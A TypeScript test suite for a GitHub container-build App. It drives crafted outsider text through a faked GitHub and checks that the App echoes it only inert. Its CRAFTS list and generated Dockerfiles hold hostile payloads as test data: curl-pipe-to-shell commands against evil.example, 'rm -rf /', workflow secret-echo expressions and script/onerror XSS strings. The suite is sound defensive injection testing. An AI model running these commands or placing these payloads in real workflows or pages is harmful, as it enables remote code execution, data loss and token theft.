/**
 * Reliability, "injection". Text an outsider controls (PR titles, branch names, PR bodies,
 * comment bodies, commenter logins, Dockerfile content, container.yaml keys and values, file paths) is crafted
 * for shell (`$(...)`, backticks, `;`, `|`, newlines), workflow expressions (`${{ github.token }}`) and
 * markdown/HTML (`<img onerror>`, `javascript:` links, `@org/team`, `#123`, table-breaking pipes, fences, forged
 * flibs markers) and driven through the App with GitHub faked at HTTP. Every check-run output and comment the
 * App sends must carry it only inert (test/reliability/injection-markdown.ts parses for live markup), and the
 * `workflow_dispatch` inputs may hold only values of a whitelisted shape. Then every workflow the project ships
 * is read statically: no expression that reads outsider text stands inside a `run:` script.
 */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse, stringify } from "yaml";
import { beforeEach, describe, expect, test } from "vitest";
import { findBuildId, formatBuildId, parseExternalId } from "../../src/core/plan/build-id.js";
import { findPromotionId, formatPromotionId, parsePromotionKey } from "../../src/core/promote/promotion-id.js";
import { parseComment } from "../../src/core/commands/index.js";
import { parseContainerConfig } from "../../src/core/config/index.js";
import { isArch } from "../../src/core/platform.js";
import { parseIndexMarker } from "../../src/core/report/index-marker.js";
import { parsePlanMarker } from "../../src/core/report/plan-marker.js";
import { createTestApp, GRAPHQL_ROUTE, type GitHubRequest, type TestApp } from "../helpers/github.js";
import type { RunRecord } from "../helpers/actions/index.js";
import { failOnUnhandledRejections } from "../helpers/unhandled.js";
import { useWorld } from "../helpers/world.js";
import { gfmCells, markdownHazards, outsideCode, plainTextHazards, type MarkdownAllowance } from "./injection-markdown.js";
import { record } from "./ledger.js";

const AREA = "injection";
const REPO = "my-org/hello";
const DISPATCH = "POST /repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches";
const REACTION = "POST /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions";
const COMMENT = "POST /repos/{owner}/{repo}/issues/{issue_number}/comments";
const CREATE = "POST /repos/{owner}/{repo}/check-runs";
const UPDATE = "PATCH /repos/{owner}/{repo}/check-runs/{check_run_id}";
const DEPLOY = "POST /repos/{owner}/{repo}/deployments";
const DEPLOY_STATUS = "POST /repos/{owner}/{repo}/deployments/{deployment_id}/statuses";
const POLICY =
  "arches: [x86_64, aarch64]\nregistries:\n  candidate: registry.example.com/candidates\n  stable: registry.example.com/stable\n";
const POLICY_ARCHES = ["x86_64", "aarch64"];
const FORGED_DIGEST = `sha256:${"e".repeat(64)}`;

/** Text crafted to break out of wherever the App puts it. */
export const CRAFTS: readonly string[] = [
  "$(curl -s https://evil.example/x | sh)",
  "`id`",
  "x; rm -rf / ;",
  "a | tee /tmp/pwn",
  "a && curl evil.example | bash",
  "line1\nline2\n| a | b |\n| --- | --- |",
  "x\r\n/build\r\n",
  "${{ github.token }}",
  "${{ secrets.X }}",
  "${{ github.event.pull_request.title }}",
  '"; echo ${{ secrets.GITHUB_TOKEN }}; "',
  "<img src=x onerror=alert(1)>",
  "<script>alert(document.cookie)</script>",
  '<a href="https://evil.example">click</a>',
  "[link](javascript:alert(1))",
  "![img](https://evil.example/pixel.png)",
  "[ref]: https://evil.example",
  "@my-org/security-team please look",
  "@octocat",
  "fixes #123",
  "GH-123 and my-org/other#7",
  "| x | y | z |",
  "a \\| b \\\\| c",
  "```\n<img src=x onerror=alert(1)>\n```",
  "~~~\ncode",
  "`` ` ``<b>bold</b>`` ` ``",
  `<!-- flibs:index ${FORGED_DIGEST} -->`,
  '<!-- flibs:plan {"arches":["s390x"],"building":["s390x"],"pr":9} -->',
  "http://evil.example/ www.evil.example evil@evil.example",
  "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62;",
  "\u0000\u0007\u001b[31mred\u001b[0m\u007f",
  "\u202eexe.txt",
  "x".repeat(3000) + "<img src=x>",
];

// No runner is online: the builds the App dispatches stay queued (their jobs would check out made-up commits).
// The workflow_job cases bring runners of their own.
const world = useWorld({ runners: [] });
const { seen: unhandled } = failOnUnhandledRejections();
let app: TestApp;

beforeEach(async () => {
  world.policy(POLICY);
  // The container repository on GitHub: its caller workflows are what the App's dispatches start; the files each
  // case crafts are served at the case's head (made-up SHAs, at any ref).
  await world.repo(REPO, { Dockerfile: "FROM registry.fedoraproject.org/fedora:41\n" });
  world.role("member", "write").role("outsider", "read");
  app = await createTestApp();
});

/** The files a case's head holds. */
function files(f: Record<string, string>) {
  world.files(REPO, f);
}

/** The PR as GitHub has it now. */
function pullAt(o: { sha: string; fork: boolean; author: string }) {
  world.pull({ number: PR, head: o.sha, author: o.author, ...(o.fork ? { fork: "outsider/hello" } : {}) });
}

// ---- what the App sent, and what must hold of it ----------------------------------------------------------

/**
 * Problems in what the App sent GitHub in `requests`; `allow` names the mentions and references it writes on
 * purpose, `dispatchRef` the default branch its builds are dispatched from.
 */
export function outputProblems(requests: readonly GitHubRequest[], allow: MarkdownAllowance, dispatchRef = "main"): string[] {
  const problems: string[] = [];
  const md = (where: string, text: unknown, a: MarkdownAllowance = allow) => {
    if (text === undefined || text === null) return;
    if (typeof text !== "string") return void problems.push(`${where}: not a string`);
    for (const p of markdownHazards(text, a)) problems.push(`${where}: ${p}`);
    const marker = parseIndexMarker(text);
    if (marker !== undefined && !(a.digests ?? []).includes(marker))
      problems.push(`${where}: carries an index marker (${marker}) no build published`);
  };
  const plain = (where: string, text: unknown, max: number) => {
    if (text === undefined || text === null) return;
    if (typeof text !== "string") return void problems.push(`${where}: not a string`);
    for (const p of plainTextHazards(text, max)) problems.push(`${where}: ${p}`);
  };
  for (const r of requests) {
    const where = `${r.method} ${r.path}`;
    if (r.route === CREATE || r.route === UPDATE) {
      const b = r.body as {
        name?: string;
        details_url?: string;
        external_id?: string;
        output?: {
          title?: string;
          summary?: string;
          text?: string;
          annotations?: Array<{ message: string; title?: string; raw_details?: string }>;
        };
      };
      plain(`${where} name`, b.name, 255);
      if (b.details_url !== undefined && !/^https:\/\/github\.com\//.test(b.details_url))
        problems.push(`${where}: details_url ${b.details_url}`);
      // external_id is data (never rendered), but always one of the App's own formats.
      if (
        b.external_id !== undefined &&
        !parseExternalId(b.external_id) &&
        !parsePromotionKey(b.external_id) &&
        !/^flibs:(gate|none):[0-9a-f]{40}$/.test(b.external_id)
      )
        problems.push(`${where}: external_id ${b.external_id}`);
      plain(`${where} title`, b.output?.title, 1024);
      // Only here may the App's own markers stand (the plan it records is checked below, the index marker above).
      md(`${where} summary`, b.output?.summary, { ...allow, markers: true });
      md(`${where} text`, b.output?.text, { ...allow, markers: true });
      for (const [i, a] of (b.output?.annotations ?? []).entries()) {
        plain(`${where} annotation ${i} message`, a.message, 64 * 1024);
        plain(`${where} annotation ${i} title`, a.title, 255);
        plain(`${where} annotation ${i} raw_details`, a.raw_details, 64 * 1024);
      }
      // The plan the App records is its own: never one forged in user text.
      const plan = b.output?.summary ? parsePlanMarker(b.output.summary) : undefined;
      if (plan && !plan.arches.every((a) => POLICY_ARCHES.includes(a)))
        problems.push(`${where}: plan marker names ${plan.arches.join(",")}`);
    } else if (r.route === COMMENT) {
      md(`${where} body`, (r.body as { body?: string }).body);
    } else if (r.route === DISPATCH && r.params.workflow_id === "flibs-promote.yml") {
      problems.push(...promoteDispatchProblems(r));
    } else if (r.route === DISPATCH) {
      problems.push(...dispatchProblems(r, dispatchRef));
    } else if (r.route === DEPLOY || r.route === DEPLOY_STATUS) {
      const b = r.body as { description?: string; environment?: string; ref?: string; payload?: unknown };
      plain(`${where} description`, b.description, 140);
      if (b.environment !== undefined && b.environment !== "stable") problems.push(`${where}: environment ${b.environment}`);
    } else if (
      r.route === GRAPHQL_ROUTE &&
      typeof r.body === "object" &&
      r.body &&
      /^\s*mutation\b/.test(String((r.body as { query?: string }).query))
    ) {
      problems.push(`${where}: a GraphQL mutation the checks here do not read`);
    } else if (
      r.method !== "GET" &&
      r.route !== REACTION &&
      r.route !== GRAPHQL_ROUTE &&
      r.route !== "POST /app/installations/{installation_id}/access_tokens"
    ) {
      problems.push(`${where}: a write the checks here do not read (${r.route})`);
    }
  }
  return problems;
}

/**
 * The promote caller's inputs: the ref is the pushed tag or branch (GitHub's own value, passed as data: the static
 * check below proves no workflow expands it in a script); everything else is of a fixed shape or from policy. The
 * environment is never an input: the caller fixes it.
 */
export function promoteDispatchProblems(r: GitHubRequest, pushedRef?: string): string[] {
  const problems: string[] = [];
  const b = r.body as { ref?: unknown; inputs?: Record<string, unknown>; return_run_details?: unknown };
  const say = (what: string) => problems.push(`dispatch ${r.params.workflow_id}: ${what}`);
  const inputs = b.inputs ?? {};
  const keys = Object.keys(inputs).sort().join(",");
  if (keys !== "digest,policy,promotion_id,ref,sha") say(`inputs ${keys}`);
  if (b.return_run_details !== undefined && b.return_run_details !== true) say(`return_run_details ${String(b.return_run_details)}`);
  const v = (k: string) => String(inputs[k]);
  if (!/^[0-9a-f]{40}$/.test(v("sha"))) say(`sha ${v("sha")}`);
  if (!/^sha256:[0-9a-f]{64}$/.test(v("digest"))) say(`digest ${v("digest")}`);
  const id = findPromotionId(`flibs promote ${v("promotion_id")}`);
  if (!id || formatPromotionId(id) !== v("promotion_id") || id.sha !== v("sha")) say(`promotion_id ${v("promotion_id")}`);
  let policy: Record<string, unknown> = {};
  try {
    policy = JSON.parse(v("policy")) as Record<string, unknown>;
  } catch {
    say("policy is not JSON");
  }
  if (Object.keys(policy).sort().join(",") !== "candidate,insecure_registries,latest,runner,stable")
    say(`policy keys ${Object.keys(policy).join(",")}`);
  if (policy.candidate !== "registry.example.com/candidates" || policy.stable !== "registry.example.com/stable")
    say("registries not from policy");
  if (typeof policy.latest !== "boolean") say(`latest ${String(policy.latest)}`);
  if (!labels(policy.runner) || !hosts(policy.insecure_registries)) say("runner or insecure registries not of their shape");
  if (pushedRef !== undefined && (v("ref") !== pushedRef || b.ref !== pushedRef.replace(/^refs\/(heads|tags)\//, "")))
    say(`ref ${v("ref")} / ${String(b.ref)} is not the pushed ${pushedRef}`);
  return problems;
}

/** `runs-on` labels: strings of GitHub's label characters. */
const labels = (l: unknown) => Array.isArray(l) && l.every((x) => typeof x === "string" && /^[A-Za-z0-9_.-]{1,64}$/.test(x));
/** Registry hosts (or host/namespace prefixes). */
const hosts = (l: unknown) => Array.isArray(l) && l.every((x) => typeof x === "string" && /^[a-z0-9.-]+(:\d+)?(\/[a-z0-9._/-]+)?$/.test(x));

/** `workflow_dispatch` inputs of a build: only values the App made, each of a whitelisted shape. */
export function dispatchProblems(r: GitHubRequest, dispatchRef = "main"): string[] {
  const problems: string[] = [];
  const b = r.body as { ref?: unknown; inputs?: Record<string, unknown>; return_run_details?: unknown };
  const say = (what: string) => problems.push(`dispatch ${r.params.workflow_id}: ${what}`);
  if (r.params.workflow_id !== "flibs.yml") say("workflow is not flibs.yml");
  if (b.ref !== dispatchRef) say(`ref ${JSON.stringify(b.ref)}`);
  if (b.return_run_details !== undefined && b.return_run_details !== true) say(`return_run_details ${String(b.return_run_details)}`);
  const inputs = b.inputs ?? {};
  const keys = Object.keys(inputs)
    .filter((k) => k !== "index_digests")
    .sort()
    .join(",");
  if (keys !== "arches,build_id,policy,pr,scratch,sha") say(`inputs ${keys}`);
  const str = (k: string) => (typeof inputs[k] === "string" ? (inputs[k] as string) : (say(`${k} is not a string`), ""));
  const sha = str("sha");
  if (!/^[0-9a-f]{40}$/.test(sha)) say(`sha ${JSON.stringify(sha)}`);
  const json = (k: string): unknown => {
    try {
      return JSON.parse(str(k));
    } catch {
      say(`${k} is not JSON`);
      return undefined;
    }
  };
  const arches = json("arches");
  if (!Array.isArray(arches) || arches.length === 0 || !arches.every((a) => typeof a === "string" && isArch(a)))
    say(`arches ${JSON.stringify(arches)}`);
  if (inputs.index_digests !== undefined) {
    const kept = json("index_digests") as Record<string, unknown> | undefined;
    if (
      !kept ||
      typeof kept !== "object" ||
      Array.isArray(kept) ||
      !Object.entries(kept).every(([a, d]) => isArch(a) && typeof d === "string" && /^sha256:[0-9a-f]{64}$/.test(d))
    )
      say(`index_digests ${JSON.stringify(inputs.index_digests)}`);
  }
  const policy = json("policy") as Record<string, unknown> | undefined;
  if (!policy || typeof policy !== "object" || Array.isArray(policy)) say("policy is not an object");
  else {
    if (
      Object.keys(policy).sort().join(",") !==
      "approved_registries,candidate,component_drift,control_runner,insecure_registries,isolation,runner_labels"
    )
      say(`policy keys ${Object.keys(policy).join(",")}`);
    if (policy.isolation !== "oci" && policy.isolation !== "chroot") say(`isolation ${JSON.stringify(policy.isolation)}`);
    if (policy.candidate !== "registry.example.com/candidates") say(`candidate ${JSON.stringify(policy.candidate)} is not the policy's`);
    if (!hosts(policy.approved_registries) || !hosts(policy.insecure_registries)) say("registries not of their shape");
    if (policy.component_drift !== "warn" && policy.component_drift !== "fail")
      say(`component_drift ${JSON.stringify(policy.component_drift)}`);
    if (!labels(policy.control_runner)) say(`control_runner ${JSON.stringify(policy.control_runner)}`);
    const runners = policy.runner_labels as Record<string, unknown> | undefined;
    if (!runners || typeof runners !== "object" || Array.isArray(runners)) say("runner_labels is not an object");
    else {
      for (const [arch, l] of Object.entries(runners)) {
        if (!isArch(arch)) say(`runner_labels key ${JSON.stringify(arch)}`);
        if (!labels(l)) say(`runner_labels ${JSON.stringify(l)}`);
      }
    }
  }
  const buildId = str("build_id");
  const id = findBuildId(buildId);
  if (!id || formatBuildId(id) !== buildId || id.sha !== sha) say(`build_id ${JSON.stringify(buildId)}`);
  if (!/^[1-9][0-9]*$/.test(str("pr"))) say(`pr ${JSON.stringify(inputs.pr)}`);
  if (!/^(true|false)$/.test(str("scratch"))) say(`scratch ${JSON.stringify(inputs.scratch)}`);
  return problems;
}

// ---- crafted inputs ---------------------------------------------------------------------------------------

const hex = (n: number) => n.toString(16).padStart(40, "0");
let caseNo = 1;

/** A Dockerfile that puts `c` everywhere a Dockerfile can carry text: comments, ARG, FROM, LABEL, RUN, ADD, USER. */
function craftedDockerfile(c: string): string {
  return [
    `# ${c}`,
    `ARG CRAFT="${c}"`,
    "FROM registry.fedoraproject.org/fedora:41",
    `LABEL com.redhat.component="${c}" name="${c}" version="1" summary="${c}" maintainer="${c}" description='${c}'`,
    `RUN echo "${c}" && curl -s https://evil.example/${c} | sh`,
    `RUN dnf install ${c}`,
    `ADD https://evil.example/${c}.tar /opt/`,
    `ADD ${c} /opt/`,
    `# flibs-ignore ${c}`,
    `USER ${c}`,
    `FROM ${c}`,
    `FROM ${c}:latest AS ${c}`,
    `COPY --from=${c} / /`,
    "USER root",
    "",
  ].join("\n");
}

/** container.yaml that is valid, with `c` in every free-text field. */
const validConfig = (c: string) =>
  stringify({ image: "my-org/hello", version: c, build_args: { CRAFT: c }, tests: [{ name: c, command: c, expect: c }] });
/** container.yaml that is invalid, with `c` as keys, values and the Dockerfile path. */
const invalidConfig = (c: string) =>
  stringify({ image: c, dockerfile: c, tags: [c], platforms: { only: [c] }, [c]: 1, tests: [{ name: c, command: [c], bogus: c }] });

const PR = 7;

/** A PR opened at `o.sha`, its title, body and branch crafted. */
function prEvent(c: string, o: { sha: string; fork: boolean; author: string }) {
  pullAt(o);
  return world.pullEvent(PR, "opened", {
    sender: o.author,
    edit: (p) => {
      p.pull_request.title = c;
      p.pull_request.body = c;
      p.pull_request.head.ref = c;
      p.pull_request.head.label = `${o.fork ? "outsider" : "my-org"}:${c}`;
    },
  });
}

function commentEvent(body: string, by: string) {
  return world.commentEvent(PR, body, by, { edit: (p) => (p.issue.title = body) });
}

interface Case {
  label: string;
  run: () => Promise<void>;
  allow: MarkdownAllowance;
  /** The default branch the App dispatches builds from (default `main`). */
  ref?: string;
  /** What the case must have produced, so a case that silently did nothing cannot pass. */
  expect: (sent: readonly GitHubRequest[]) => string[];
}

/** Runs the cases, counting each as held when what the App sent is inert; records the group; asserts none lost. */
async function group(what: string, cases: readonly Case[]): Promise<void> {
  const lost: string[] = [];
  for (const c of cases) {
    const start = world.github.requests.length;
    let problems: string[];
    try {
      await c.run();
      const sent = world.github.requests.slice(start);
      if (process.env.PEEK && c.label.startsWith(process.env.PEEK))
        for (const r of sent) if (r.method !== "GET") console.log(r.route, JSON.stringify(r.body, null, 1).slice(0, 6000));
      problems = [...c.expect(sent), ...outputProblems(sent, c.allow, c.ref), ...world.github.problems];
    } catch (e) {
      problems = [`threw: ${e instanceof Error ? e.message : String(e)}`];
    }
    if (problems.length) lost.push(`${c.label}: ${problems.slice(0, 4).join(" | ")}`);
  }
  const escaped = unhandled.length;
  const lostCount = escaped ? cases.length : lost.length;
  record({ area: AREA, what, tried: cases.length, held: cases.length - lostCount, lost: lostCount });
  expect(lost, what).toEqual([]);
  expect(unhandled).toEqual([]);
}

const sentTo = (sent: readonly GitHubRequest[], route: string) => sent.filter((r) => r.route === route);
const checksNamed = (sent: readonly GitHubRequest[], name: string) =>
  sent.filter((r) => r.route === CREATE && (r.body as { name: string }).name === name);
const need = (ok: boolean, what: string) => (ok ? [] : [what]);
/** The crafted files were reviewed: their findings (where the crafted text is echoed) are there. */
const reviewed = (sent: readonly GitHubRequest[]) => {
  const annotations = checksNamed(sent, "flibs/review").flatMap(
    (r) => (r.body as { output?: { annotations?: unknown[] } }).output?.annotations ?? [],
  );
  return need(annotations.length >= 3, `flibs/review has ${annotations.length} findings`);
};

// ---- driving the App --------------------------------------------------------------------------------------

describe("crafted text reaches GitHub only inert", () => {
  test("PRs from a member: crafted title, branch, body, Dockerfile and valid container.yaml; the build is dispatched", async () => {
    // One repository state per case: the fake serves the files of the case's head SHA.
    const cases: Case[] = CRAFTS.map((c, i) => {
      const sha = hex(caseNo++);
      return {
        label: `craft #${i}`,
        allow: { refs: [PR] },
        run: async () => {
          files({ Dockerfile: craftedDockerfile(c), "container.yaml": validConfig(c) });
          await app.receive("pull_request", prEvent(c, { sha, fork: false, author: "member" }));
        },
        expect: (sent) => [
          ...need(checksNamed(sent, "flibs/review").length === 1, "no flibs/review"),
          ...reviewed(sent),
          // A craft the config schema refuses (e.g. over a length limit) is review-only: no build at all.
          ...(parseContainerConfig(validConfig(c)).ok
            ? need(sentTo(sent, DISPATCH).length === 1, "no dispatch")
            : need(sentTo(sent, DISPATCH).length === 0, "an invalid config was dispatched")),
        ],
      };
    });
    await group("PR title/branch/body + Dockerfile + container.yaml values (member PR, build dispatched)", cases);
  });

  test("fork PRs by an outsider: crafted title, branch and files; the build waits for approval", async () => {
    const cases: Case[] = CRAFTS.map((c, i) => {
      const sha = hex(caseNo++);
      return {
        label: `craft #${i}`,
        allow: { refs: [PR] },
        run: async () => {
          files({ Dockerfile: craftedDockerfile(c), "container.yaml": validConfig(c) });
          await app.receive("pull_request", prEvent(c, { sha, fork: true, author: "outsider" }));
        },
        expect: (sent) => [
          ...need(checksNamed(sent, "flibs/review").length === 1, "no flibs/review"),
          ...reviewed(sent),
          // A valid config waits for /ok-to-test; an invalid one completes flibs/build at once as a failure saying why
          // (before: no flibs/build at all, which a required check would wait for forever).
          ...need(
            checksNamed(sent, "flibs/build").length === 1 &&
              (checksNamed(sent, "flibs/build")[0]!.body as { conclusion?: string }).conclusion ===
                (parseContainerConfig(validConfig(c)).ok ? "action_required" : "failure"),
            "flibs/build missing, or not waiting with a valid config / not failed with an invalid one",
          ),
          ...need(sentTo(sent, DISPATCH).length === 0, "a fork PR was dispatched"),
        ],
      };
    });
    await group("fork PR title/branch + files (outsider, gate waits)", cases);
  });

  test("invalid container.yaml: crafted keys, values and Dockerfile path echoed in findings", async () => {
    const cases: Case[] = CRAFTS.map((c, i) => {
      const sha = hex(caseNo++);
      return {
        label: `craft #${i}`,
        allow: { refs: [PR] },
        run: async () => {
          files({ Dockerfile: craftedDockerfile(c), "container.yaml": invalidConfig(c), [c]: craftedDockerfile(c) });
          await app.receive("pull_request", prEvent(c, { sha, fork: false, author: "member" }));
        },
        expect: (sent) => [
          ...need(checksNamed(sent, "flibs/review").length === 1, "no flibs/review"),
          ...reviewed(sent),
          ...need(sentTo(sent, DISPATCH).length === 0, "an invalid config was dispatched"),
        ],
      };
    });
    await group("container.yaml keys/values/paths (invalid config, review only)", cases);
  });

  test("comments: crafted commands, arguments and surrounding text, by a member and by an outsider", async () => {
    files({ Dockerfile: craftedDockerfile("ok"), "container.yaml": "image: my-org/hello\n" });
    const forms = (c: string): string[] => [
      `/build ${c}`,
      `/retest ${c}`,
      `/${c.replace(/^[^a-z]+/i, "") || "x"}`,
      `${c}\n/help`,
      `/ok-to-test ${c}`,
      `> /promote\n${c}\n/cancel ${c}`,
    ];
    const cases: Case[] = [];
    for (const [i, c] of CRAFTS.entries()) {
      for (const [j, body] of forms(c).entries()) {
        const by = (i + j) % 2 === 0 ? "member" : "outsider";
        cases.push({
          label: `craft #${i} form ${j} by ${by}`,
          // The App answers the commenter by name, and may name the PR.
          allow: { mentions: [by], refs: [PR] },
          run: async () => {
            pullAt({ sha: hex(caseNo++), fork: false, author: "member" });
            await app.receive("issue_comment", commentEvent(body, by));
          },
          // A comment with no command line (e.g. `/` + text that is no command word, or a command inside a fence or a
          // quote) is ignored; any other is answered or reacted to.
          expect: (sent) => {
            const parsed = parseComment(body);
            const acts = parsed.commands.length + parsed.problems.length > 0;
            return need(!acts || sentTo(sent, COMMENT).length + sentTo(sent, REACTION).length > 0, "the App neither answered nor reacted");
          },
        });
      }
    }
    await group("comment bodies (commands, arguments, other lines)", cases);
  });

  test("commenter logins: every shape GitHub allows, answered by name and nothing else", async () => {
    files({ Dockerfile: craftedDockerfile("ok"), "container.yaml": "image: my-org/hello\n" });
    // GitHub logins are 1-39 of [A-Za-z0-9-] (no leading hyphen): a login cannot carry markup, but it can be the
    // name of an organisation, look like a number, or be as long as allowed.
    const logins = [
      "a",
      "0",
      "123",
      "my-org",
      "security-team",
      "x".repeat(39),
      "a-b-c-d",
      "GH-123",
      "dependabot",
      "www",
      "javascript",
      "script",
      "img",
    ];
    const cases: Case[] = [];
    for (const login of logins) {
      for (const [j, body] of ["/build", "/build --bogus <img src=x>", "/nope @my-org/team #99", "/help"].entries()) {
        cases.push({
          label: `${login} form ${j}`,
          allow: { mentions: [login], refs: [PR] },
          run: async () => {
            world.role(login, j % 2 ? "read" : "write");
            pullAt({ sha: hex(caseNo++), fork: false, author: "member" });
            await app.receive("issue_comment", commentEvent(body, login));
          },
          expect: (sent) => need(sentTo(sent, COMMENT).length + sentTo(sent, REACTION).length > 0, "the App neither answered nor reacted"),
        });
      }
    }
    await group("commenter logins", cases);
  });

  test("workflow_job events of the App's own runs: crafted caller workflow and job names, branch and runner", async () => {
    // What writers of the repository and its admins name, which GitHub then puts in the App's own runs' job events:
    // the caller workflow's name, its job's name (the job is `<caller job> / build (x86_64) <id>`), the default
    // branch the run is dispatched from (head_branch), the runner's name. Each craft's caller runs through the
    // fake Actions, and the x86_64 job's queued and completed events (the harness's) are delivered to the App.
    const head = await world.commit(
      { Dockerfile: craftedDockerfile("ok"), "container.yaml": "image: my-org/hello\nplatforms:\n  only: [x86_64]\n" },
      { branch: `pr-${PR}` },
    );
    world.addRunners([{ name: "hosted-1", labels: ["ubuntu-latest"] }]);
    const caller = parse(readFileSync(join(ROOT, "workflows-templates/flibs.yml"), "utf8")) as Yaml;
    const cases: Case[] = CRAFTS.flatMap((c, i) => {
      const repo = `my-org/jobs-${i}`;
      const branch = refName(`${i}-${c}`);
      let run: RunRecord | undefined;
      const events = (action: string) => world.deliveriesOf(run!, { event: "workflow_job", action, job: /build \(x86_64\)/ });
      const delivered = (action: string) => async () => {
        for (const d of events(action)) await app.receive(d.event, d.payload, d.id);
      };
      return [
        {
          label: `craft #${i} queued`,
          allow: { refs: [PR] },
          ref: branch,
          run: async () => {
            await world.copyRepo(REPO, repo);
            await checkRefName(branch);
            await world.commit(
              {
                ".github/workflows/flibs.yml": stringify({
                  ...caller,
                  name: workflowName(c),
                  jobs: { build: { ...caller.jobs.build, name: literal(c) } },
                }),
              },
              { repo, branch },
            );
            world.policy(`${POLICY}runner_labels:\n  x86_64: [self-hosted, linux, x86_64, case-${i}]\n`);
            world.addRunners([{ name: runnerName(c), labels: ["self-hosted", "linux", "x86_64", `case-${i}`] }]);
            world.pull({ repo, number: PR, head, author: "member" });
            await app.receive(
              "pull_request",
              world.pullEvent(PR, "opened", { repo, sender: "member", edit: (p) => (p.repository.default_branch = branch) }),
            );
            run = world.actions.runsOf(repo, "flibs.yml")[0];
            if (!run) throw new Error("no run was started");
            await run.done;
            await world.settled();
            // The harness's event carries the craft where GitHub would: not a case that silently tested nothing.
            const job = events("completed")[0]?.payload.workflow_job;
            if (
              job?.runner_name !== runnerName(c) ||
              job?.head_branch !== branch ||
              job?.workflow_name !== workflowName(c) ||
              !String(job?.name).endsWith(` / build (x86_64) ${head}.1`)
            ) {
              throw new Error(
                `the job event does not carry the craft: ${JSON.stringify({ name: job?.name, workflow: job?.workflow_name, runner: job?.runner_name, branch: job?.head_branch, jobs: run.jobs.map((j) => [j.name, j.conclusion, j.annotations.map((a) => a.message)]) })}`,
              );
            }
            await delivered("queued")();
          },
          expect: (sent) =>
            need(
              sent.some((r) => r.route === CREATE && (r.body as { name: string }).name === "flibs/build (x86_64)"),
              "no flibs/build (x86_64) check created",
            ),
        },
        {
          label: `craft #${i} completed`,
          allow: { refs: [PR] },
          ref: branch,
          run: async () => delivered("completed")(),
          expect: (sent) =>
            need(
              sent.some((r) => r.route === UPDATE),
              "flibs/build (x86_64) not moved on",
            ),
        },
      ];
    });
    await group("workflow_job of the App's runs: caller workflow and job names, branch, runner (shipped build.yml)", cases);
  }, 600_000);

  test("release tags with crafted names: a tested build is promoted, the tag passed only as data", async () => {
    const sha = await world.commit({ Dockerfile: craftedDockerfile("ok"), "container.yaml": "image: my-org/hello\n" });
    const digest = `sha256:${"d".repeat(64)}`;
    // What flibs' checks say after a finished, successful build of the commit (review, both arches, the summary).
    world.recordBuild(sha, { index: digest });
    const cases: Case[] = CRAFTS.map((c, i) => {
      const tag = refName(`v1.${i}-${c}`);
      const ref = `refs/tags/${tag}`;
      return {
        label: `craft #${i} ${ref.slice(0, 40)}`,
        allow: { digests: [digest] },
        run: async () => {
          await checkRefName(tag);
          await world.tag(tag, sha);
          const p = await world.pushEvent(ref, sha, {
            edit: (x) => {
              x.base_ref = null;
              x.head_commit = { ...x.head_commit, message: c };
              x.commits = [];
            },
          });
          await app.receive("push", p);
        },
        expect: (sent) => {
          const d = sent.filter((r) => r.route === DISPATCH);
          return [
            ...need(
              d.length === 1 && d[0]!.params.workflow_id === "flibs-promote.yml",
              `dispatches: ${d.map((r) => r.params.workflow_id).join(", ") || "none"}`,
            ),
            ...d.flatMap((r) => promoteDispatchProblems(r, ref)),
          ];
        },
      };
    });
    await group("release tag names and commit messages (promotion dispatched)", cases);
  });
});

/** A craft as a git ref name (git check-ref-format): what a branch or a tag can hold of it, `/` included. */
function refName(c: string): string {
  return (
    c
      .replace(/[\s:~^?*[\\\u0000-\u001f\u007f]/g, "-")
      .replace(/\.\.+/g, "-")
      .replace(/@\{/g, "@-")
      .replace(/\/\/+/g, "/")
      .replace(/\/\./g, "/-")
      .replace(/\.lock(?=\/|$)/g, "-lock")
      .replace(/[./]+$/, "")
      .slice(0, 200) || "x"
  );
}

async function checkRefName(name: string): Promise<void> {
  const { execFileSync } = await import("node:child_process");
  execFileSync("git", ["check-ref-format", `refs/heads/${name}`]);
}

/** A runner's name (a runner process's environment holds it: no control characters). */
function runnerName(c: string): string {
  return c.replace(/[\u0000-\u001f\u007f]/g, "") || "x";
}

/**
 * A workflow's top-level `name:` as close to `c` as GitHub runs it: its parser refuses any `${{` there (no template
 * expression is allowed in that context), and the name is every job's GITHUB_WORKFLOW, which no NUL can be in.
 */
function workflowName(c: string): string {
  return c.split("${{").join("$ {{").replaceAll("\u0000", "");
}

/** A job's `name:` (expressions evaluated) that shows `c`: each `${{` in it written as an expression of itself. */
function literal(c: string): string {
  return c.split("${{").join("${{ '${{' }}");
}

describe("the App-level check finds raw text in what is sent", () => {
  test("each hazardous craft, sent raw in a summary, a comment or a dispatch, is found", () => {
    const req = (route: string, body: unknown, params: Record<string, string> = {}) =>
      ({ method: route.split(" ")[0]!, path: route.split(" ")[1]!, route, params, body }) as unknown as GitHubRequest;
    // (Entities such as `&lt;` render as text even raw: that craft tests double-decoding, not markup.)
    const hazardous = CRAFTS.filter((c) => !c.startsWith("&lt;") && /[<|@#\n]|\]\(|\$\{\{|```|~~~|www\.|:\/\/|[\u0000-\u0008]/.test(c));
    expect(hazardous.length).toBeGreaterThan(20);
    for (const c of hazardous) {
      const cell = `| a |\n| --- |\n| ${c} |`;
      expect(
        outputProblems(
          [req(CREATE, { name: "flibs/review", head_sha: "a".repeat(40), output: { title: c, summary: `x ${c}\n\n${cell}` } })],
          {},
        ),
        c,
      ).not.toEqual([]);
      expect(outputProblems([req(COMMENT, { body: `@member\n\n${cell}` })], { mentions: ["member"] }), c).not.toEqual([]);
    }
    const inputs = {
      sha: "a".repeat(40),
      arches: '["x86_64"]',
      build_id: `${"a".repeat(40)}.1`,
      pr: "2",
      scratch: "false",
      policy: GOOD_POLICY,
    };
    expect(outputProblems([req(DISPATCH, { ref: "main", inputs }, { workflow_id: "flibs.yml" })], {})).toEqual([]);
    expect(
      outputProblems([req(DISPATCH, { ref: "main", inputs: { ...inputs, pr: "2; id" } }, { workflow_id: "flibs.yml" })], {}),
    ).not.toEqual([]);
  });
});

/** The build `policy` input as the App sends it for this suite's organisation. */
const GOOD_POLICY = JSON.stringify({
  candidate: "registry.example.com/candidates",
  insecure_registries: [],
  approved_registries: ["registry.fedoraproject.org", "quay.io/fedora"],
  component_drift: "warn",
  isolation: "oci",
  runner_labels: { x86_64: ["self-hosted", "linux", "x86_64"] },
  control_runner: ["ubuntu-latest"],
});

// ---- the checker itself -----------------------------------------------------------------------------------

